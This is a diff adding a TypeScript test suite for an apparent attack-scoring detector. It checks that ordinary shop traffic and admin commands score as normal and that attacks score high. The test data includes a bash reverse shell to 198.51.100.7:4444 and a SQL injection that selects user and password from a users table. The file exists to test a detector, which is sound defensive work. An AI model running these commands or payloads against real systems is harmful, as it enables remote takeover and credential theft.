@@ -1,0 +1,103 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { formOf, placeOf } from '../../src/score/form.ts';
+import { openLocalScorer } from '../../src/score/local.ts';
+import { isLogLine, requestOfLogLine } from '../../src/score/rules/log-lines.ts';
+import { ask, bytes, command, draft, fileEvent, request } from './events.ts';
+
+const scorer = openLocalScorer({ onWarning: assert.fail });
+const agent =
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36';
+
+describe('ordinary traffic', () => {
+  const requests = [
+    `GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${agent}\r\n\r\n`,
+    `GET /style.css?v=12 HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${agent}\r\nReferer: http://shop.example/\r\n\r\n`,
+    `GET /images/logo-80.png HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${agent}\r\n\r\n`,
+    `POST /cart HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nitem=42&count=2`,
+    'GET /articles/how-to-bake-bread/ HTTP/1.1',
+    'lang=en',
+    'page=2&sort=price',
+    'mara',
+  ];
+  for (const text of requests)
+    it(`is left alone: ${text.slice(0, 40).replace(/\s+/g, ' ')}`, () => {
+      const { risk_score, attack_type } = scorer.judge(ask(request(text)));
+      assert.ok(risk_score <= 4, `${risk_score} ${attack_type}`);
+      assert.equal(attack_type, 'Normal');
+    });
+
+  it('in an access log is read as the request that it tells of', () => {
+    const line = (path: string) =>
+      `198.51.100.4 - - [17/May/2026:10:05:03 +0000] "GET ${path} HTTP/1.1" 200 4877 "http://shop.example/" "${agent}"`;
+    assert.equal(
+      requestOfLogLine(line('/style.css')),
+      `GET /style.css HTTP/1.1\r\nUser-Agent: ${agent}\r\n\r\n`,
+    );
+    assert.equal(requestOfLogLine('GET / HTTP/1.1'), null);
+    assert.ok(scorer.judge(ask(request(line('/style.css')))).risk_score <= 4);
+    const attack = scorer.judge(
+      ask(request(line("/item?id=1'%20UNION%20SELECT%20user,password%20FROM%20users--"))),
+    );
+    assert.ok(attack.risk_score >= 7);
+    for (const { field, text } of attack.evidence)
+      if (field === 'payload')
+        assert.ok(line("/item?id=1'%20UNION%20SELECT%20user,password%20FROM%20users--").includes(text));
+  });
+});
+
+describe('what administrators type elsewhere', () => {
+  for (const line of [
+    'git status',
+    'ls -la',
+    'uname -a',
+    'docker compose up -d',
+    'systemctl status nginx',
+    'cat /etc/os-release',
+  ])
+    it(`is left alone: ${line}`, () => {
+      for (const event of [command(line, { service: 'workstation' }), bytes(line)]) {
+        const { attack_type, risk_score } = scorer.judge(ask(event));
+        assert.equal(attack_type, 'Normal', `${event.service}: ${risk_score}`);
+      }
+      const process = scorer.judge(ask(fileEvent('file.opened', {}, { cmdline: line })));
+      assert.ok(!process.reasons.some((reason) => reason.includes('attacker')));
+    });
+
+  it('is not what attackers type, wherever they do', () => {
+    const line = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';
+    for (const event of [
+      request(line),
+      command(line),
+      command(line, { service: 'workstation' }),
+      bytes(line),
+    ])
+      assert.ok(scorer.judge(ask(event)).risk_score >= 7, event.service);
+    const process = scorer.judge(ask(fileEvent('file.opened', {}, { cmdline: line })));
+    assert.ok(process.risk_score >= 8);
+    assert.ok(process.evidence.some(({ field }) => field === 'extra.cmdline'));
+  });
+});
+
+describe('the form of a text', () => {
+  it('follows from kind, service and text', () => {
+    assert.equal(formOf(command('id')), 'shell');
+    assert.equal(formOf(command('id', { service: 'workstation' })), 'bytes');
+    assert.equal(formOf(command('GET /', { service: 'http' })), 'web');
+    assert.equal(formOf(draft('payload.received', { service: 'redis', payload: 'INFO' })), 'query');
+    assert.equal(formOf(draft('payload.received', { payload: '' })), 'connection');
+    assert.equal(formOf(draft('client.identified', { payload: 'SSH-2.0-Go' })), 'quiet');
+    assert.equal(placeOf('OpenSSH'), 'other');
+  });
+
+  it('is a log line’s where it begins as one', () => {
+    assert.ok(isLogLine('Nov 25 08:00:01 gate sshd[71]: Server listening on 0.0.0.0 port 22.'));
+    assert.ok(isLogLine('%ASA-4-401004: Shunned packet: 192.0.2.1'));
+    assert.ok(!isLogLine('cat /var/log/syslog | grep Nov'));
+    assert.ok(!isLogLine('GET /login HTTP/1.1'));
+    assert.ok(
+      scorer.judge(ask(command('Nov 25 08:00:01 gate sshd[71]: Server listening on 0.0.0.0'))).risk_score <=
+        2,
+    );
+  });
+});
